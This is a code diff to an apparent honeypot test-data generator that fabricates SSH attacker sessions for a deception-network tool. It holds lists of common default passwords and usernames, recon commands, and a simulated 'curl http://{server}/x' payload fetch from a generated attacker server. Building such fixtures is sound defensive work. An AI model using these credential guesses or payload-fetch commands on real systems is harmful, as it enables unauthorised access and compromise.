@@ -21,45 +21,14 @@ from decnet_core.events.catalogue import (
     TlsClient,
     TlsProbed,
 )
+from planted.vocabulary import digits
 
 BEGIN = 1_790_000_000_000_000_000
 HOUR = 3_600_000_000_000
 WORDS = (
-    *[
-        "alpha",
-        "bravo",
-        "cedar",
-        "delta",
-        "ember",
-        "falcon",
-        "garnet",
-        "harbor",
-        "indigo",
-        "jasper",
-        "kodiak",
-        "lunar",
-        "maple",
-        "nectar",
-        "onyx",
-        "pepper",
-    ],
-    *[
-        "quartz",
-        "raven",
-        "saffron",
-        "timber",
-        "umber",
-        "violet",
-        "walnut",
-        "xenon",
-        "yonder",
-        "zephyr",
-        "anchor",
-        "bishop",
-        "copper",
-        "dagger",
-        "eagle",
-    ],
+    *("alpha", "bravo", "cedar", "delta", "ember", "falcon", "garnet", "harbor", "indigo", "jasper"),
+    *("kodiak", "lunar", "maple", "nectar", "onyx", "pepper", "quartz", "raven", "saffron", "timber"),
+    *("umber", "violet", "walnut", "xenon", "yonder", "zephyr", "anchor", "bishop", "copper", "dagger", "eagle"),
 )
 STOCK = (
     *("uname -a", "cat /proc/cpuinfo", "whoami", "id", "ls -la", "free -m", "ps aux", "w", "last", "cat /etc/issue"),
@@ -69,10 +38,6 @@ TOP = ("123456", "password", "admin", "root", "1234", "12345", "qwerty", "toor",
 USERS = ("root", "admin", "user", "test", "ubuntu", "support", "guest", "oracle", "postgres", "ftp", "deploy")
 DEFAULT_CERTIFICATE = "87f2085c32b6a2cc709b365f55873e207a9caa10bffecf2fd16d3cf9d94d390c"
 DEFAULT_JARM = "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"
-
-
-def hexes(dice: Random, number: int) -> str:
-    return f"{dice.getrandbits(4 * number):0{number}x}"
 
 
 def name(dice: Random) -> str:
@@ -123,9 +88,9 @@ class Crew(NamedTuple):
 
 
 def own_client(dice: Random) -> Client:
-    ja4 = f"t13d{dice.randrange(1000, 9999)}h1_{hexes(dice, 12)}_{hexes(dice, 12)}"
+    ja4 = f"t13d{dice.randrange(1000, 9999)}h1_{digits(dice, 12)}_{digits(dice, 12)}"
     stack = f"{dice.randrange(9999)}:2-4:1400:{dice.randrange(9)}"
-    return Client(hexes(dice, 32), f"SSH-2.0-{name(dice)}", ja4, name(dice), stack)
+    return Client(digits(dice, 32), f"SSH-2.0-{name(dice)}", ja4, name(dice), stack)
 
 
 STOCK_CLIENTS = tuple(own_client(Random(f"stock {number}")) for number in range(8))
@@ -154,15 +119,15 @@ def marks(dice: Random, crew: Crew | None) -> Marks:
     own_certificate = dice.random() < 0.6
     return Marks(
         "SHA256:" + base64.b64encode(dice.randbytes(32)).decode().rstrip("="),
-        crew.build if crew and dice.random() < 0.4 else hexes(dice, 64),
+        crew.build if crew and dice.random() < 0.4 else digits(dice, 64),
         dice.choice(crew.servers) if crew and dice.random() < 0.7 else host,
-        hexes(dice, 6),
+        digits(dice, 6),
         tuple((dice.choice(USERS), f"{name(dice)}{dice.choice('!#$')}") for _ in range(dice.randrange(4, 20))),
         script(dice),
-        hexes(dice, 20),
+        digits(dice, 20),
         any_client(dice),
-        hexes(dice, 64) if own_certificate else DEFAULT_CERTIFICATE,
-        hexes(dice, 62) if own_certificate else DEFAULT_JARM,
+        digits(dice, 64) if own_certificate else DEFAULT_CERTIFICATE,
+        digits(dice, 62) if own_certificate else DEFAULT_JARM,
     )
 
 
@@ -270,6 +235,7 @@ def copy(dice: Random, client: Client, victims: list[Marks]) -> Iterator[Payload
     """Show the client of one, some words, commands and the server of others, as reports name them."""
     yield from _login(victims[0].client if dice.random() < 0.5 else client)
     for victim in victims:
-        yield LoginAttempt("ssh", *victim.words[0][:1], False, password=victim.words[0][1])
+        user, secret = victim.words[0]
+        yield LoginAttempt("ssh", user, False, password=secret)
         yield CommandRun("ssh", victim.script[0])
     yield CommandRun("ssh", f"curl http://{victims[-1].server}/x")
